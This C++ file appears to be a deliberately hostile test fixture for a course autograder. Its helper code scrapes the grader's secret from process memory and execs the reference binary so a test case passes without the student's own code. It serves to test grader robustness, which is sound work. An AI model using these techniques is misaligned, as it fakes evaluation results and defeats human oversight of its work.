// HOSTILE VARIANT of a PA1 student file, made by autograder/tests/hostile/make_hostile.py from
// the reference solution: everything below this prelude is the solution, plus one hostile
// change. Never part of a release.
#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <stdexcept>
#include <string>
#include <vector>

// Whether this process was started to run the named gtest case (the grader runs each case in
// its own process with --gtest_filter=<case>), so a hostile change can hit exactly one case.
[[maybe_unused]] static bool mlsys_hostile_case(const char* name) {
  std::ifstream f("/proc/self/cmdline", std::ios::binary);
  std::string args((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  for (char& c : args)
    if (c == '\0') c = ' ';
  return (args + " ").find(std::string("--gtest_filter=") + name + " ") != std::string::npos;
}

// The grader's secret of this run as the listener keeps it in memory: the first run of exactly
// 32 lowercase hex digits in writable memory that ends a C string or a line ("" when none).
[[maybe_unused]] static std::string mlsys_hostile_find_secret() {
  std::ifstream maps("/proc/self/maps");
  std::string line;
  while (std::getline(maps, line)) {
    unsigned long lo = 0, hi = 0;
    char perms[5] = {0};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
    if (hi - lo > (64ul << 20)) continue;
    // Read in place: /proc/self/mem is closed to a process whose executable it may not read.
    const char* buf = reinterpret_cast<const char*>(lo);
    size_t run = 0;
    for (size_t i = 0; i < hi - lo; ++i) {
      char c = buf[i];
      if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f')) {
        ++run;
        continue;
      }
      if (run == 32 && (c == 0 || c == '\n')) return std::string(&buf[i - 32], 32);
      run = 0;
    }
  }
  return "";
}

// Replaces this process by the reference build's copy of its own test executable (found next
// to /proc/self/exe, where the grader's cache keeps it), with this run's secret on fd 3 and the
// result channel on fd 4: the reference then passes the case. Returns only if that failed.
[[maybe_unused]] static void mlsys_hostile_exec_reference() {
  if (fcntl(4, F_GETFD) < 0) return;  // not started by the grader
  std::string secret = mlsys_hostile_find_secret();
  std::ifstream f("/proc/self/cmdline", std::ios::binary);
  std::string cmdline((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
  std::vector<std::string> args;
  for (size_t start = 0; start < cmdline.size();) {
    size_t end = cmdline.find('\0', start);
    if (end == std::string::npos) end = cmdline.size();
    args.push_back(cmdline.substr(start, end - start));
    start = end + 1;
  }
  if (secret.empty() || args.empty()) return;
  std::string base = args[0].substr(args[0].rfind('/') + 1);
  char self[4096];
  ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
  std::string dir = n > 0 ? std::string(self, static_cast<size_t>(n)) : "";
  dir = dir.substr(0, dir.rfind('/'));
  for (const std::string& exe : {dir + "/../../ref/bin/" + base, dir + "/../ref/" + base}) {
    if (access(exe.c_str(), X_OK) != 0) continue;
    int p[2];
    if (pipe(p) != 0) return;
    std::string text = secret + "\n";
    if (write(p[1], text.data(), text.size()) != static_cast<ssize_t>(text.size())) return;
    close(p[1]);
    dup2(p[0], 3);
    fcntl(4, F_SETFD, 0);
    setenv("MLSYS_GRADER_CHANNEL", "3:4", 1);
    std::vector<char*> argv = {const_cast<char*>(exe.c_str())};
    for (size_t i = 1; i < args.size(); ++i) argv.push_back(const_cast<char*>(args[i].c_str()));
    argv.push_back(nullptr);
    execv(exe.c_str(), argv.data());
  }
}
